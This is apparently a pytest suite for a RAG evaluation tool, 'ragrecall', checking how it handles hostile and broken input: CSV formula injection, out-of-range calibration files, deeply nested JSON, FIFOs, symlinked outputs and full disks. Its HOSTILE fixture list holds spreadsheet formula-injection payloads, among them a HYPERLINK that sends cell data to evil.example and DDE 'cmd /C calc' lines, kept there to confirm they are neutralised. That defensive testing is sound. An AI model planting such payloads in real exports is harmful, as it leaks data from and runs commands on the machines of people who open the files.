"""Hostile and broken inputs (issue 32, items 6, 7, 9, 10, 11, 12, 13): files that would run
code in a spreadsheet stay text, out-of-range profiles and labels are refused naming the file
and field, ids and texts users call the same pair up, quiet wrong answers become usage errors,
and bad input never exits 5 ("a bug in ragrecall")."""

from __future__ import annotations

import contextlib
import csv
import importlib.util
import json
import os
import random
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from fakes import ScriptedJudge

from ragrecall import ContextRecall, calibrate
from ragrecall.calibration import CalibrationProfile, Label, read_labels
from ragrecall.cli import main
from ragrecall.prompts import PROMPT_VERSION

ROOT = Path(__file__).resolve().parents[3]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    # past blanks and invisible characters, and in fullwidth forms (issue 43, item 10)
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(1+1)",
    " =1+1",
    "\n=1+1",
    "\r\n+1+1",
    " \t@SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0-2+3",
    "\u3000\u200b\uff1d1+1",
]
# cells no spreadsheet runs: written as they are
ORDINARY = [" hello", "a=b", "1-2", "\u200bcats"]


def runs_formula(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` as a formula: its first character that is not
    blank or invisible is a formula sign, in any compatibility form."""
    for char in cell:
        if unicodedata.category(char) not in ("Zs", "Zl", "Zp", "Cc", "Cf"):
            return unicodedata.normalize("NFKC", char)[:1] in ("=", "+", "-", "@")
    return False


def write_jsonl(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


@pytest.fixture(autouse=True)
def _claim_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAGRECALL_CLAIMS_STORE", str(tmp_path / "claims.db"))


def scored(tmp_path: Path, rows: list[dict[str, Any]], name: str = "results") -> Path:
    data = write_jsonl(tmp_path / f"{name}-data.jsonl", rows)
    out = tmp_path / f"{name}.jsonl"
    judge = ["--judge-factory", "fakes:LogprobJudge", "--strategy", "per_claim"]
    assert main(["eval", str(data), *judge, "--claim-mode", "sentences", "--out", str(out)]) == 0
    return out


# --- 6. CSV formula injection ------------------------------------------------------------


def test_review_csv_cells_never_start_a_formula_and_read_back_exactly(tmp_path: Path) -> None:
    rows = [
        {
            "sample_id": f"s{i}",
            "question": text,
            "reference": f"{text} Cats purr {i}.",
            "contexts": [f"{text} Cats purr {i}."],
        }
        for i, text in enumerate(HOSTILE + ORDINARY)
    ]
    results = scored(tmp_path, rows)
    folder = tmp_path / "review"
    assert main(["review", str(results), "--out", str(folder), "--random", "100"]) == 0
    table = folder / "review.csv"
    with table.open(newline="", encoding="utf-8") as f:
        table_rows = list(csv.DictReader(f))
    cells = [cell for row in table_rows for cell in row.values()]
    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") or runs_formula(c)]
    assert starts == []
    questions_written = {row["question"] for row in table_rows}
    assert {"'" + text for text in HOSTILE} <= questions_written
    assert set(ORDINARY) <= questions_written  # unchanged, no mark
    assert all(row["p_supported"][:1] != "'" for row in table_rows)  # numbers as they are
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells)
    # the JSONL results stay exact, and calibrate reads the CSV back as it was
    written = results.read_text(encoding="utf-8")
    assert json.dumps(HOSTILE[0])[1:-1] in written
    labels = read_labels(table)
    questions = {x.sample_id for x in labels}
    assert questions == {f"s{i}" for i in range(len(HOSTILE + ORDINARY))}
    claims = {x.claim for x in labels}
    assert any(c.startswith("=HYPERLINK") for c in claims)
    assert any(c.startswith("'=1+1") for c in claims)
    assert any(c.startswith("\uff1d1+1") for c in claims)  # the mark off, the text as it was


# --- 7. calibration profiles and labels are range-checked ---------------------------------

PROFILE = {
    "judge": "scripted:scripted",
    "prompt_version": "x",
    "scale_a": 1.0,
    "scale_b": 0.0,
    "support_threshold": 0.55,
    "lexical_weight": 0.3,
    "labels": 40,
    "moved": False,
}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("support_threshold", 5.0),
        ("support_threshold", -1.0),
        ("lexical_weight", 2.0),
        ("scale_a", -5),
        ("scale_a", -0.5),
        ("scale_a", "NaN"),
        ("scale_b", "Infinity"),
        ("scale_b", None),  # missing
        ("support_threshold", "NaN"),
        ("labels", -3),
        ("support_threshold", "high"),
        ("support_threshold", "0.5"),  # a number as text
        ("moved", "yes"),
        ("labels", 40.5),
        # past any fitted profile (issue 43, item 11)
        ("scale_a", 5000.0),
        ("scale_b", 1e308),
        ("scale_b", -1e308),
        ("scale_b", 1001.0),
    ],
)
def test_an_out_of_range_profile_is_refused_naming_file_and_field(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], field: str, value: Any
) -> None:
    profile = dict(PROFILE)
    if value is None:
        del profile[field]
    else:
        profile[field] = value
    path = tmp_path / "calibration.json"
    # NaN and Infinity as Python's json writes them (bare words)
    text = json.dumps(profile).replace('"NaN"', "NaN").replace('"Infinity"', "Infinity")
    path.write_text(text)
    with pytest.raises(ValueError, match=rf"calibration.json: .*field '{field}'"):
        CalibrationProfile.load(path)
    data = write_jsonl(tmp_path / "data.jsonl", [{"reference": "Cats purr.", "contexts": ["x"]}])
    judge = ["--judge-factory", "fakes:LogprobJudge"]
    code = main(["eval", str(data), *judge, "--calibration", str(path)])
    assert code == 2
    err = capsys.readouterr().err
    assert "calibration.json" in err and field in err


def test_a_profile_saved_with_a_byte_order_mark_is_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    profile = {**PROFILE, "prompt_version": PROMPT_VERSION, "scale_a": 0.8, "scale_b": -0.2}
    path = tmp_path / "calibration.json"
    path.write_text(json.dumps(profile, indent=2), encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert CalibrationProfile.load(path).scale_b == -0.2
    data = write_jsonl(tmp_path / "data.jsonl", [{"reference": "Cats purr.", "contexts": ["x"]}])
    judge = ["--judge-factory", "fakes:LogprobJudge", "--strategy", "per_claim"]
    assert main(["eval", str(data), *judge, "--calibration", str(path)]) == 0, (
        capsys.readouterr().err
    )


def test_a_slope_of_zero_is_a_fitted_profile_and_loads(tmp_path: Path) -> None:
    # labels that run against the judge's P: calibrate gives every P the base rate (slope 0)
    rng = random.Random(1)
    rows = []
    for i in range(200):
        p = rng.random()
        label = "supported" if rng.random() > p else "not_supported"
        rows.append(
            Label(key=f"k{i}", claim=f"c{i}", label=label, attributed=p > 0.5, p_supported=p)
        )
    profile = calibrate(rows, resamples=200)
    assert profile.scale_a == 0.0 and "scaled P(supported)" in profile.note
    profile.save(tmp_path / "calibration.json")
    assert CalibrationProfile.load(tmp_path / "calibration.json") == profile


@pytest.mark.parametrize(
    ("row", "field"),
    [
        ({"p_supported": 5}, "p_supported"),
        ({"p_supported": -0.1}, "p_supported"),
        ({"p_supported": "NaN"}, "p_supported"),
        ({"word_overlap": 1.5}, "word_overlap"),
        ({"occurrence": -1}, "occurrence"),
    ],
)
def test_an_out_of_range_label_is_refused_naming_file_line_and_field(
    tmp_path: Path, row: dict[str, Any], field: str
) -> None:
    good = {"key": "k", "claim": "c", "label": "supported", "p_supported": 0.4}
    path = tmp_path / "labels.jsonl"
    bad = json.dumps({**good, **row}).replace('"NaN"', "NaN")
    path.write_text(json.dumps(good) + "\n\n" + bad + "\n")
    with pytest.raises(ValueError, match=rf"labels.jsonl:3: .*field '{field}'"):
        read_labels(path)
    assert main(["calibrate", str(path), "--out", str(tmp_path / "c.json")]) == 2
    csv_path = tmp_path / "labels.csv"
    with csv_path.open("w", newline="") as f:
        writer = csv.DictWriter(f, list({**good, **row}))
        writer.writeheader()
        writer.writerow(good)
        writer.writerow({**good, **row})
    with pytest.raises(ValueError, match=rf"labels.csv:3: .*field '{field}'"):
        read_labels(csv_path)


def test_a_nested_or_endless_labels_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "labels.jsonl"
    path.write_text('{"key": "k", "claim": "c", "label": "skip"}\n' + "[" * 100_000 + "\n")
    with pytest.raises(ValueError, match=r"labels.jsonl:2: not JSON: nested too deeply"):
        read_labels(path)
    assert main(["calibrate", "/dev/zero"]) == 2


# --- 12. quiet wrong answers ---------------------------------------------------------------


def test_calibrate_says_an_interval_below_zero_is_worse_not_inconclusive() -> None:
    rng = random.Random(12)
    labels = []
    for i in range(60):
        p, w = round(rng.random(), 2), round(rng.random(), 2)
        truth = (0.7 * p + 0.3 * w >= 0.55) if rng.random() < 0.8 else rng.random() < 0.5
        label = "supported" if truth else "not_supported"
        labels.append(
            Label(
                key=f"k{i}",
                claim=f"c{i}",
                label=label,
                attributed=p > 0.5,
                p_supported=p,
                word_overlap=w,
                judge="j",
            )
        )
    profile = calibrate(labels, resamples=500)
    assert not profile.moved
    assert "does not exclude 0" not in profile.note
    assert "lies below 0" in profile.note and "does worse" in profile.note


# --- 11. identity traps make compare refuse ------------------------------------------------


def animal_rows(n: int = 30) -> list[dict[str, Any]]:
    return [
        {
            "question": f"What do cats do ({i})?",
            "reference": f"Cats purr {i}. Dogs bark {i}.",
            "contexts": [f"Cats purr {i} loudly."],
        }
        for i in range(n)
    ]


def eval_to(tmp_path: Path, data: Path, name: str) -> Path:
    out = tmp_path / f"{name}-results.jsonl"
    judge = ["--judge-factory", "fakes:LogprobJudge", "--strategy", "per_claim"]
    assert main(["eval", str(data), *judge, "--claim-mode", "sentences", "--out", str(out)]) == 0
    return out


def test_float_ids_from_parquet_pair_with_int_ids_from_jsonl(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import pandas as pd  # with pyarrow, in the locked environment: never skipped

    rows = [{"sample_id": i, **r} for i, r in enumerate(animal_rows())]
    a = eval_to(tmp_path, write_jsonl(tmp_path / "a.jsonl", rows), "a")
    frame = pd.DataFrame(rows)
    frame["sample_id"] = frame["sample_id"].astype("float64")
    frame.loc[29, "sample_id"] = None  # one gap: pandas keeps the column as float
    frame.to_parquet(tmp_path / "b.parquet")
    b = eval_to(tmp_path, tmp_path / "b.parquet", "b")
    assert main(["compare", str(a), str(b)]) == 0
    out = capsys.readouterr().out
    assert "30 / 30 / 29" in out  # samples A / B / paired


def test_a_trailing_space_in_each_reference_still_pairs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = animal_rows()
    spaced = [
        {**r, "reference": r["reference"] + " ", "question": " " + r["question"]} for r in rows
    ]
    a = eval_to(tmp_path, write_jsonl(tmp_path / "a.jsonl", rows), "a")
    b = eval_to(tmp_path, write_jsonl(tmp_path / "b.jsonl", spaced), "b")
    assert main(["compare", str(a), str(b)]) == 0
    assert "30 / 30 / 30" in capsys.readouterr().out


def test_a_refusal_for_few_pairs_says_how_samples_pair_and_shows_a_near_miss(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = animal_rows(10)
    other = [{**r, "reference": r["reference"].replace("Cats", "Kats")} for r in rows]
    a = eval_to(tmp_path, write_jsonl(tmp_path / "a.jsonl", rows), "a")
    b = eval_to(tmp_path, write_jsonl(tmp_path / "b.jsonl", other), "b")
    assert main(["compare", str(a), str(b)]) == 2
    out = " ".join(capsys.readouterr().err.split())
    assert "only 0 samples pair" in out and "whitespace" in out and "1.0" in out
    assert "first unpaired in A: question 'What do cats do (0)?'" in out
    assert "first unpaired in B:" in out and "Kats purr 0." in out


def test_comparing_a_run_with_itself_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a = eval_to(tmp_path, write_jsonl(tmp_path / "a.jsonl", animal_rows()), "a")
    assert main(["compare", str(a), str(a)]) == 2
    assert "are the same file" in " ".join(capsys.readouterr().err.split())
    copy = tmp_path / "copy.jsonl"
    copy.write_bytes(a.read_bytes())
    assert main(["compare", str(a), str(copy)]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "identical results for all 30 samples" in out
    assert "score more questions" not in out and "verdict: too few pairs" not in out


def test_a_run_missing_the_metric_for_one_sample_is_refused_not_a_crash(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the fuzz at scale: a results file whose one record lacks the compared metric
    made compare exit 5 (KeyError); it is a usage error naming the row."""
    a = eval_to(tmp_path, write_jsonl(tmp_path / "a.jsonl", animal_rows()), "a")
    records = [json.loads(line) for line in a.read_text().splitlines()]
    del records[2]["results"]["context_recall"]
    b = write_jsonl(tmp_path / "b.jsonl", records)
    capsys.readouterr()
    assert main(["compare", str(a), str(b)]) == 2
    out = " ".join(capsys.readouterr().err.split())
    assert "B holds no 'context_recall' result for 1 of its samples" in out
    assert "internal error" not in out


def test_a_claims_file_with_two_sets_for_one_task_is_refused_naming_file_and_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(3))
    claims = tmp_path / "claims.jsonl"
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    assert main(["claims", str(data), *judge, "--out", str(claims)]) == 0
    lines = claims.read_text().splitlines()
    other = json.loads(lines[1])
    other["claims"] = ["Cats purr 1.", "Cats are blue."]
    claims.write_text("\n".join([*lines, json.dumps(other)]) + "\n")
    capsys.readouterr()
    code = main(
        ["eval", str(data), "--judge-factory", "fakes:ScriptedJudge", "--claims", str(claims)]
    )
    assert code == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "claims.jsonl:4:" in err and "a second claim set for the task of line 2" in err
    # the same set twice is not a conflict
    claims.write_text("\n".join([*lines, lines[1]]) + "\n")
    assert (
        main(["eval", str(data), "--judge-factory", "fakes:ScriptedJudge", "--claims", str(claims)])
        == 0
    )


@pytest.mark.parametrize(
    ("column", "metric", "field"),
    [
        ("retreived_contexts", "context_recall", "retrieved_contexts"),
        ("refrence", "context_recall", "reference"),
        ("answr", "response_recall", "response"),
    ],
)
def test_a_misspelt_column_every_row_lacks_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], column: str, metric: str, field: str
) -> None:
    rows = [
        {"question": "q", "reference": "Cats purr.", "response": "Cats purr.", "contexts": ["x"]}
    ]
    canonical = {"retrieved_contexts": "contexts", "reference": "reference", "response": "response"}
    for row in rows:
        row[column] = row.pop(canonical[field])
    data = write_jsonl(tmp_path / "data.jsonl", rows * 3)
    code = main(["eval", str(data), "--judge-factory", "fakes:ScriptedJudge", "--metric", metric])
    assert code == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "data.jsonl: no row has" in err and field in err and metric in err
    assert "did you mean" in err


def test_an_empty_retrieval_on_every_row_is_still_scored(tmp_path: Path) -> None:
    data = write_jsonl(tmp_path / "data.jsonl", [{"reference": "Cats purr.", "contexts": []}] * 2)
    assert main(["eval", str(data), "--judge-factory", "fakes:ScriptedJudge"]) == 0


def test_a_judge_that_fails_mid_run_is_not_said_to_be_unable_to_start(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(20))
    judge = ["--judge-factory", "fakes:dying_judge", "--claim-mode", "sentences"]
    out = tmp_path / "out.jsonl"
    code = main(["eval", str(data), *judge, "--concurrency", "1", "--out", str(out)])
    assert code == 4
    err = " ".join(capsys.readouterr().err.split())
    assert "could not start" not in err
    assert "the judge failed mid-run, after" in err and "samples of this run were scored" in err


# --- 9. bad input is never exit 5 ----------------------------------------------------------


def attribute(key: str, value: Any) -> dict[str, Any]:
    return {"key": key, "value": {"stringValue": value}}


def otlp_spans(spans: list[dict[str, Any]]) -> dict[str, Any]:
    return {"resourceSpans": [{"scopeSpans": [{"spans": spans}]}]}


def retriever(span_id: str, parent: str | None, question: str) -> dict[str, Any]:
    return {
        "traceId": "t1",
        "spanId": span_id,
        **({"parentSpanId": parent} if parent else {}),
        "startTimeUnixNano": "1",
        "attributes": [
            attribute("openinference.span.kind", "RETRIEVER"),
            attribute("input.value", question),
            attribute("retrieval.documents.0.document.id", "d1"),
            attribute("retrieval.documents.0.document.content", "Cats purr."),
        ],
    }


def eval_traces(tmp_path: Path, traces: Any, *more: str) -> int:
    refs = write_jsonl(tmp_path / "refs.jsonl", [{"question": "q", "reference": "Cats purr."}])
    path = tmp_path / "spans.json"
    path.write_text(traces if isinstance(traces, str) else json.dumps(traces))
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    return main(["eval", str(refs), "--from-traces", str(path), *judge, *more])


@pytest.mark.parametrize(
    ("traces", "where"),
    [
        ({"resourceSpans": {"scopeSpans": []}}, "resourceSpans is dict, not a list"),
        (otlp_spans(["a span"]), "resourceSpans[0].scopeSpans[0].spans[0]"),
        (
            otlp_spans(
                [{"spanId": "s9", "attributes": [{"key": "n", "value": {"intValue": "x"}}]}]
            ),
            "resourceSpans[0].scopeSpans[0].spans[0] (spanId 's9'): unreadable span: attribute 'n'",
        ),
        (
            otlp_spans([{"spanId": "s9", "attributes": [{"value": {"stringValue": "x"}}]}]),
            "spans[0] (spanId 's9'): unreadable span: attribute",
        ),
        ({"runs": [{"id": "r1", "run_type": "retriever", "outputs": [1]}]}, "run 0 (id 'r1')"),
        ({"runs": 5}, "neither OTLP JSON traces"),
    ],
)
def test_a_trace_file_of_the_wrong_shape_is_refused_naming_file_and_span(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], traces: Any, where: str
) -> None:
    assert eval_traces(tmp_path, traces) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "spans.json" in err and where in err, err


def test_a_span_tree_600_deep_is_read(tmp_path: Path) -> None:
    spans = [retriever("s0", None, "q")]
    spans[0]["attributes"] = [attribute("input.value", "q")]  # a plain span at the root
    spans += [
        {"traceId": "t1", "spanId": f"s{i}", "parentSpanId": f"s{i - 1}", "startTimeUnixNano": "1"}
        for i in range(1, 600)
    ]
    spans.append(retriever("s600", "s599", "q"))
    out = tmp_path / "r.jsonl"
    assert eval_traces(tmp_path, otlp_spans(spans), "--out", str(out)) == 0
    assert out.read_text().count("\n") == 1


def test_spans_that_are_each_others_parent_end(tmp_path: Path) -> None:
    spans = [retriever("a", None, "q"), retriever("b", "a", "q")]
    spans[0]["attributes"] = spans[1]["attributes"] = [attribute("input.value", "q")]
    spans.append({**spans[0], "parentSpanId": "b"})  # a second span "a", below "b"
    spans.append(retriever("c", "a", "q"))
    assert eval_traces(tmp_path, otlp_spans(spans)) == 0


@pytest.mark.parametrize("suffix", [".jsonl", ".json"])
def test_a_deeply_nested_data_file_is_refused_naming_file_and_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    data = tmp_path / f"data{suffix}"
    data.write_text('{"reference": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
    assert main(["eval", str(data), "--judge-factory", "fakes:ScriptedJudge"]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert f"data{suffix}:1:" in err and "nested too deeply" in err


def test_a_deeply_nested_results_file_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    results = tmp_path / "results.jsonl"
    results.write_text("[" * 100_000 + "\n")
    assert main(["review", str(results), "--out", str(tmp_path / "review")]) == 2
    assert "results.jsonl:1" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["eval", "review", "compare"])
def test_a_device_as_results_file_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
    argv = {
        "eval": ["eval", str(data), "--judge-factory", "fakes:ScriptedJudge", "--out", "/dev/zero"],
        "review": ["review", "/dev/zero", "--out", str(tmp_path / "review")],
        "compare": ["compare", "/dev/zero", str(data)],
    }[command]
    assert main(argv) == 2
    captured = capsys.readouterr()
    said = " ".join((captured.err + captured.out).split())
    assert "/dev/zero" in said and "not a regular file" in said


def test_a_full_disk_at_the_end_saves_the_results_and_exits_6(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(3))
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    assert main(["eval", str(data), *judge, "--report", "/dev/full"]) == 6
    err = " ".join(capsys.readouterr().err.split())
    assert "the report /dev/full could not be written (No space left on device)" in err
    saved = list(tmp_path.glob("ragrecall-results-*.jsonl"))
    assert len(saved) == 1 and f"the 3 results were saved to {saved[0]}" in err
    assert len(saved[0].read_text().splitlines()) == 3
    assert main(["review", str(saved[0]), "--out", str(tmp_path / "review")]) == 0


# --- 13. the quote check costs about the chunks' length, not claims x chunks ---------------


def test_quotes_are_checked_in_one_pass_over_the_chunks_and_credit_the_right_chunk(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    chunks = [f"Widget W{i} weighs {3 * i + 7} grams. Depot {i} ships it." for i in range(100)]
    claims, quotes = [], []
    for j in range(300):
        i = (7 * j) % 100
        claims.append(f"Widget W{i} weighs {3 * i + 7} grams ({j}).")
        kind = j % 3  # 0: in the cited chunk 1; 1: in another chunk; 2: in none
        quotes.append(
            "Widget W0 weighs 7 grams"
            if kind == 0
            else f"widget w{i}  WEIGHS {3 * i + 7} ... grams"
            if kind == 1
            else f"Widget W{i} weighs {3 * i + 8} grams"
        )
    claims = [c if j % 3 else f"Widget W0 weighs 7 grams ({j})." for j, c in enumerate(claims)]

    def reply(messages: Any) -> dict[str, Any]:
        return {
            "verdicts": [
                {"claim": n, "supported": True, "passage": 1, "quote": q}
                for n, q in enumerate(quotes, start=1)
            ]
        }

    calls = [0]
    normalize = unicodedata.normalize

    def counted(form: Any, text: str) -> str:
        calls[0] += 1
        return normalize(form, text)

    monkeypatch.setattr(unicodedata, "normalize", counted)
    metric = ContextRecall(
        judge=ScriptedJudge(reply=reply), strategy="batched", evidence="quote",
        window_tokens=1_000_000,
    )  # fmt: skip
    result = metric.score(
        {"user_input": "q", "reference_claims": claims, "retrieved_contexts": chunks}
    )
    assert calls[0] < 5 * (len(claims) + len(chunks))  # was claims x chunks: 30,000 and more
    by_claim = {v.claim: v for v in result.verdicts}
    for j, claim in enumerate(claims):
        verdict = by_claim[claim]
        if j % 3 == 2:
            assert not verdict.attributed and "not in the passages" in verdict.reason
        else:
            i = 0 if j % 3 == 0 else (7 * j) % 100
            assert verdict.attributed and verdict.chunk_ids == [str(i + 1)], verdict
    assert result.score == pytest.approx(2 / 3)


def test_a_full_disk_mid_run_exits_6_naming_the_file_and_the_run_resumes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    resource = pytest.importorskip("resource")
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(30))
    out = tmp_path / "out.jsonl"
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, hard))  # files stop growing: EFBIG
    try:
        code = main(["eval", str(data), *judge, "--concurrency", "1", "--out", str(out)])
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    err = " ".join(capsys.readouterr().err.split())
    assert code == 6, err
    assert f"could not write {out}: File too large" in err and "internal error" not in err
    assert main(["eval", str(data), *judge, "--out", str(out)]) == 0
    assert len(out.read_text().splitlines()) == 30


# --- issue 43: pipes, links, locks, folders, a long line, a Ray cluster not there ----------


def refused(code: int, said: str, *named: str) -> str:
    """``said`` on one line, after checking the exit is the table's 2 (bad usage or input; see
    docs/cli.md), never 5, with no traceback, and that it names each of ``named``."""
    flat = " ".join(said.split())
    assert code == 2, flat
    assert "Traceback" not in said and "internal error" not in said, said
    for name in named:
        assert name in flat, flat
    return flat


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
@pytest.mark.parametrize("command", ["eval", "claims", "review", "compare", "calibrate"])
def test_a_fifo_given_as_a_file_is_refused_at_once_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    fifo = tmp_path / "pipe.jsonl"
    os.mkfifo(fifo)
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    argv = {
        "eval": ["eval", str(fifo), *judge, "--out", str(tmp_path / "o.jsonl")],
        "claims": ["claims", str(fifo), *judge, "--out", str(tmp_path / "c.jsonl")],
        "review": ["review", str(fifo), "--out", str(tmp_path / "review")],
        "compare": ["compare", str(fifo), str(data)],
        "calibrate": ["calibrate", str(fifo), "--out", str(tmp_path / "cal.json")],
    }[command]

    def unblock() -> None:  # a reader stuck opening the FIFO gets its end of file: no hang
        with contextlib.suppress(OSError):
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))

    timer = threading.Timer(10, unblock)
    timer.start()
    started = time.monotonic()
    try:
        code = main(argv)
    finally:
        timer.cancel()
    assert time.monotonic() - started < 10, "the FIFO was opened and waited on"
    said = refused(code, capsys.readouterr().err, "pipe.jsonl")
    assert "pipe" in said


def test_a_link_as_the_data_file_is_read_through_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
    link = tmp_path / "link.jsonl"
    link.symlink_to(data)  # inputs are read through links; only outputs refuse them
    out = tmp_path / "out.jsonl"
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    assert main(["eval", str(link), *judge, "--no-progress", "--out", str(out)]) == 0
    assert "Traceback" not in capsys.readouterr().err
    assert len(out.read_text().splitlines()) == 2


@pytest.mark.parametrize("flag", ["--out", "--report"])
@pytest.mark.parametrize("dangling", [False, True], ids=["to-a-file", "dangling"])
def test_an_output_given_as_a_link_is_refused_naming_the_option(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], flag: str, dangling: bool
) -> None:
    target = tmp_path / "target.txt"
    if not dangling:
        target.write_text("keep me")
    link = tmp_path / "link.out"
    link.symlink_to(target)
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    code = main(["eval", str(data), *judge, flag, str(link)])
    said = refused(code, capsys.readouterr().err, f"{flag} {link}")
    assert "symbolic link" in said
    assert (target.read_text() == "keep me") if not dangling else not target.exists()


@pytest.mark.parametrize("planted", ["link", "folder"])
def test_a_lock_planted_beside_the_results_file_is_refused_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], planted: str
) -> None:
    out = tmp_path / "OUT.jsonl"
    lock = tmp_path / "OUT.jsonl.lock"
    elsewhere = tmp_path / "elsewhere.txt"
    if planted == "link":
        lock.symlink_to(elsewhere)
    else:
        lock.mkdir()
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    code = main(["eval", str(data), *judge, "--out", str(out)])
    refused(code, capsys.readouterr().err, str(lock), "--out")
    assert not elsewhere.exists() and not out.exists()


@pytest.mark.parametrize("flag", ["--out", "--report"])
def test_a_folder_given_as_an_output_file_is_refused_naming_the_option(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], flag: str
) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(2))
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    code = main(["eval", str(data), *judge, flag, str(folder)])
    said = refused(code, capsys.readouterr().err, f"{flag} {folder}")
    assert "directory" in said
    assert list(folder.iterdir()) == []


def test_a_reference_of_one_1_mb_line_is_scored(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # the 30 MB line: tests/system/test_endless_line.py; one of prose: tests/unit/metrics/
    # test_long_line.py (its sentence splitting, about 6 s a MB)
    reference = "x" * 1_000_000  # no sentence end, no space: one line, one claim
    row = {"question": "q", "reference": reference, "contexts": ["x" * 1000]}
    data = write_jsonl(tmp_path / "data.jsonl", [row])
    out = tmp_path / "out.jsonl"
    judge = ["--judge-factory", "fakes:ScriptedJudge", "--claim-mode", "sentences"]
    started = time.monotonic()
    code = main(["eval", str(data), *judge, "--no-progress", "--out", str(out)])
    took = time.monotonic() - started
    assert code == 0 and "Traceback" not in capsys.readouterr().err
    assert len(out.read_text().splitlines()) == 1
    assert took < 30, f"{took:.1f} s for 1 MB (under 1 s when linear)"


@pytest.mark.skipif(importlib.util.find_spec("ray") is None, reason="ray is not installed")
def test_a_ray_address_where_nothing_listens_is_exit_2_at_once(tmp_path: Path) -> None:
    """The CLI in a process of its own (Ray's state stays out of this one): about 3 s, most of
    it importing Ray. The local cluster that cannot start: tests/system/test_ray_unreachable.py
    (it starts Ray)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        address = f"127.0.0.1:{s.getsockname()[1]}"  # closed again: nothing listens there
    data = write_jsonl(tmp_path / "data.jsonl", animal_rows(1))
    env = {k: v for k, v in os.environ.items() if k != "RAY_ADDRESS"}
    env["PYTHONPATH"] = os.pathsep.join([str(ROOT / "testkit"), env.get("PYTHONPATH", "")])
    argv = [sys.executable, "-m", "ragrecall.cli", "eval", str(data), "--engine", "ray"]
    argv += ["--address", address, "--judge-factory", "fakes:ScriptedJudge"]
    argv += ["--claim-mode", "sentences", "--no-progress", "--out", str(tmp_path / "out")]
    started = time.monotonic()
